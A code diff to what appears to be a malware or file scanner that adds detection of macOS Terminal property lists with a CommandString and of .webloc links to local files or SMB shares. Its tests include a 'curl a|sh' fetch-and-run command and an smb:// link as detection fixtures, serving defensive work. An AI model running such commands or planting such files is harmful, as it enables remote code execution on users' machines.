@@ -1,5 +1,7 @@
-//! Small XML files of Windows that run something: configurations of Windows Sandbox, types and formats of PowerShell.
+//! Small XML files that run something: configurations of Windows Sandbox, types and formats of PowerShell; of macOS settings
+//! of the Terminal with a command, and links to places (`.webloc`) that are no pages.
 
+use super::place::{Place, plain};
 use super::{Analyzer, Findings, Found, Look, Sees};
 use crate::formats::xml;
 use crate::model::{IocType, Kind};
@@ -10,7 +12,7 @@ pub(super) const ROW: Analyzer = Analyzer {
     name: "xml_commands",
     kinds: &[Kind::Xml],
     sees: Sees::Place,
-    findings: &["script"],
+    findings: &["script", "internet-shortcut"],
     run,
 };
 
@@ -28,11 +30,15 @@ fn run(look: &Look<'_>, findings: &mut Findings<'_>) {
     let lower = data.get(..LONGEST).unwrap_or(data).to_ascii_lowercase();
     let has = |word: &str| memchr::memmem::find(&lower, word.as_bytes()).is_some();
     let (sandbox, shell) = (has("<logoncommand"), has("scriptblock>"));
-    if !sandbox && !shell {
+    let list = has("<plist") && (has("<key>commandstring</key>") || has("<key>url</key>"));
+    if !sandbox && !shell && !list {
         return;
     }
     let source = text::to_utf8(data.get(..LONGEST).unwrap_or(data));
     let elements = xml::elements(&source, ELEMENTS);
+    if list {
+        properties(look, &elements, findings);
+    }
     let root = elements
         .first()
         .map(|one| one.name.as_str())
@@ -59,6 +65,37 @@ fn run(look: &Look<'_>, findings: &mut Findings<'_>) {
         if let Some(code) = code {
             let shown = format!("PowerShell types: {}", code.text.trim());
             findings.report(Found::new("script", &shown).at(code.at));
+        }
+    }
+}
+
+/// Property lists of macOS: a command that the Terminal runs when it opens its settings, a link that opens a file or a share.
+fn properties(look: &Look<'_>, elements: &[xml::Element], findings: &mut Findings<'_>) {
+    let keys = elements.iter().filter(|one| one.name == "key").count();
+    for pair in elements.windows(2) {
+        let [key, value] = pair else {
+            continue;
+        };
+        let text = value.text.trim();
+        if key.name != "key" || value.name != "string" || text.is_empty() {
+            continue;
+        }
+        match key.text.trim() {
+            "CommandString" => {
+                findings.ioc(IocType::Command, text);
+                let found = Found::new("script", &format!("Terminal: {text}"));
+                findings.report(found.variant("starts-process").at(value.at));
+            }
+            // A link has no other property.
+            "URL" if keys == 1 => {
+                let target = plain(text);
+                let place = Place::of(&target, &look.knowledge.links);
+                if matches!(place, Place::Share(_) | Place::Local | Place::Moniker) {
+                    let found = Found::new("internet-shortcut", &format!("URL={target}"));
+                    findings.report(found.variant("remote-file").at(value.at));
+                }
+            }
+            _ => {}
         }
     }
 }
@@ -92,5 +129,19 @@ mod tests {
             ["medium"]
         );
         assert!(found("<doc><GetScriptBlock>is an element</GetScriptBlock></doc>").is_empty());
+        let list = |key: &str, value: &str| {
+            found(&format!(
+                "<plist version=\"1.0\"><dict><key>{key}</key><string>{value}</string></dict></plist>"
+            ))
+        };
+        assert_eq!(list("CommandString", "curl a|sh"), ["critical"]);
+        assert_eq!(
+            list("URL", "file:///Applications/Utilities/Terminal.app"),
+            ["medium"]
+        );
+        assert_eq!(list("URL", "smb://192.0.2.1/s"), ["medium"]);
+        assert!(list("URL", "https://www.example.com/").is_empty());
+        assert!(list("CFBundleName", "Terminal").is_empty());
+        assert!(list("CommandString", "").is_empty());
     }
 }
